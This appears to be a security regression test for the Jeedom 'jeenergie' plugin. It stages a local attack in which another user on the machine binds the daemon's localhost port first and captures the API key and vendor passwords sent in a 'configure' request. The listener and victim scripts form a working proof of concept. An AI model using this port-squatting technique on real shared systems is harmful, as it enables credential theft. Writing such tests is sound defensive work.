"""Another user of the machine listens on the daemon's port before it does, and waits for what Jeedom sends.

He was sent the api key, and with the next `configure` every password of every vendor.
"""

from __future__ import annotations

import sys

from tests.security.attacks.target import Checkout, NotHere, Succeeded, tried

PASSWORD = "the-password-of-a-vendor"
LISTEN = """
import socket
listener = socket.create_server(("127.0.0.1", 0))
print(listener.getsockname()[1], flush=True)
listener.settimeout(15)
peer, _ = listener.accept()
peer.settimeout(5)
heard = b""
try:
    while not heard.endswith(b"\\n"):
        part = peer.recv(65536)
        if not part:
            break
        heard += part
except OSError:
    pass
print(heard.decode(), flush=True)
"""
VICTIM = """
Memory::$config['jeenergie::socketport'] = (int) $argv[2];
$socket = $class('Jeenergie\\Daemon\\Socket', 'jeenergieSocket');
try {
    $socket::request('configure', ['connections' => [['config' => ['password' => $argv[3]]]]], 3);
} catch (Throwable $error) {
    echo $error->getMessage();
}
"""


def attack(checkout: Checkout) -> None:
    """Raises Succeeded if the impostor was sent anything."""
    checkout.two_users()
    plugin = checkout.plugin()
    shared = checkout.folder / "tmp"
    shared.mkdir()
    shared.chmod(0o777)
    impostor = checkout.as_other(LISTEN)
    assert impostor.stdout is not None
    port = impostor.stdout.readline().strip()
    if not port:
        raise NotHere("the impostor could not listen")
    said, errors = checkout.php(plugin, VICTIM, port, PASSWORD, TMPDIR=str(shared)).communicate(timeout=40)
    heard = impostor.communicate(timeout=40)[0].strip()
    if heard:
        raise Succeeded(f"the impostor was sent {len(heard)} bytes, the password among them: {PASSWORD in heard}")
    if not said:
        raise NotHere(f"PHP has not come so far: {errors[-300:]}")


if __name__ == "__main__":
    sys.exit(tried(attack))
